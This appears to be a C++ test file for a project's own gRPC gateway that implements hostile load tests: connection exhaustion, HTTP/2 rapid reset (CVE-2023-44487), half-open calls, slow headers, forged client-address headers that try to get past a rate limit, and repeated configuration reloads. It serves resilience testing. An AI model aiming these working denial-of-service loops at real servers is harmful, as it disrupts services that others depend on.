#include "tests/hostile/attacks.h"

#include <signal.h>

#include <chrono>
#include <memory>
#include <optional>
#include <thread>

#include "absl/strings/str_cat.h"
#include "libs/base/clock.h"

namespace tarot::hostile {
namespace {

using Connections = std::vector<std::unique_ptr<RawConnection>>;

void Sleep(int ms) { std::this_thread::sleep_for(std::chrono::milliseconds(ms)); }

// Keeps, from four addresses, up to `count` connections open, opens each again after its end, and
// calls `each` for all of them again and again.
template <typename First, typename Each>
void Keep(const Target& target, std::size_t count, const std::atomic<bool>& stopping, First first,
          Each each) {
  Connections connections;
  Target from = target;
  for (int opened = 0; !stopping;) {
    while (!stopping && connections.size() < count) {
      from.source = target.source + ++opened % 4;
      auto connection = std::make_unique<RawConnection>(from);
      if (!connection->Open()) {
        Sleep(2);
        break;
      }
      if (first(*connection)) connections.push_back(std::move(connection));
    }
    std::erase_if(connections, [&](const auto& connection) {
      return !connection->Open() || !each(*connection);
    });
    Sleep(20);
  }
}

// 1,200 connections are more than 1,024 descriptors, the usual limit. Debian's gRPC never accepts
// again after this limit (CVE-2023-4785).
std::string HoldConnections(const Target& target, const std::atomic<bool>& stopping) {
  const auto fine = [](RawConnection&) { return true; };
  Keep(target, 1'200, stopping, fine, fine);
  return "";
}

// CVE-2023-44487.
std::string ResetStreams(const Target& target, const std::atomic<bool>& stopping) {
  while (!stopping) {
    RawConnection connection(target);
    bool open = connection.Open() && connection.Send(Preface());
    for (unsigned stream = 1; open && !stopping && stream < 1u << 30;) {
      std::string burst;
      for (int i = 0; i < 200; ++i, stream += 2) {
        absl::StrAppend(&burst, HeadersOf(stream, kSignIn), ResetOf(stream));
      }
      open = connection.Send(burst) && connection.Open();
    }
    Sleep(2);
  }
  return "";
}

// 10,000 calls whose message never comes.
std::string OpenHalfCalls(const Target& target, const std::atomic<bool>& stopping) {
  std::string calls = Preface();
  for (unsigned stream = 1; stream < 200; stream += 2) calls += HeadersOf(stream, kSignIn);
  const auto open = [&](RawConnection& connection) { return connection.Send(calls); };
  Keep(target, 100, stopping, open, [](RawConnection&) { return true; });
  return "";
}

// 200 connections whose headers come a byte at a time and never end.
std::string SendSlowHeaders(const Target& target, const std::atomic<bool>& stopping) {
  const auto begin = [](RawConnection& connection) {
    return connection.Send(absl::StrCat(Preface(), UnfinishedHeaders(1, kSignIn)));
  };
  // The bytes of one header, over and over.
  const auto more = [](RawConnection& connection) {
    return connection.Send(MoreHeaders(1, absl::string_view("\0\1a\1b", 5)));
  };
  Keep(target, 200, stopping, begin, more);
  return "";
}

// Signs guests in, each under an address of its own in the header that only the door may set. The
// gateway allows an address 100 sign-ins at once and 5 a second.
std::string ForgeAddresses(const Target& target, const std::atomic<bool>& stopping) {
  const Stopwatch watch;
  int accepted = 0;
  for (int i = 0; !stopping; ++i) {
    const std::string forged = absl::StrCat("192.0.", i / 256 % 256, ".", i % 256);
    RawConnection connection(target);
    const std::optional<int> status =
        connection.Call(kSignIn,
                        "\x0a\x03"
                        "Eve",
                        {{"x-tarot-client-address", forged}}, absl::Seconds(5));
    accepted += status == 0;
    Sleep(5);
  }
  const double fair = 100 + 5 * absl::ToDoubleSeconds(watch.Elapsed()) + 1;
  if (accepted <= fair) return "";
  return absl::StrCat(accepted, " sign-ins of one address were accepted, not ", fair);
}

// The operator, not an attacker, loads the door's configuration again and again.
std::string ReloadDoor(const Target& target, const std::atomic<bool>& stopping) {
  while (!stopping) {
    kill(target.door, SIGUSR2);
    for (int i = 0; i < 20 && !stopping; ++i) Sleep(100);
  }
  return "";
}

}  // namespace

const std::vector<Attack>& Attacks() {
  static const auto& attacks = *new std::vector<Attack>{
      {"connections", "holds 1,200 connections open without a byte", HoldConnections},
      {"resets", "opens and resets streams at full speed", ResetStreams},
      {"half_calls", "opens 10,000 calls whose message never comes", OpenHalfCalls},
      {"slow_headers", "sends headers on 200 connections that never end", SendSlowHeaders},
      {"forged_address", "signs in under forged addresses", ForgeAddresses},
      {"reloads", "loads the door's configuration every two seconds", ReloadDoor},
  };
  return attacks;
}

}  // namespace tarot::hostile
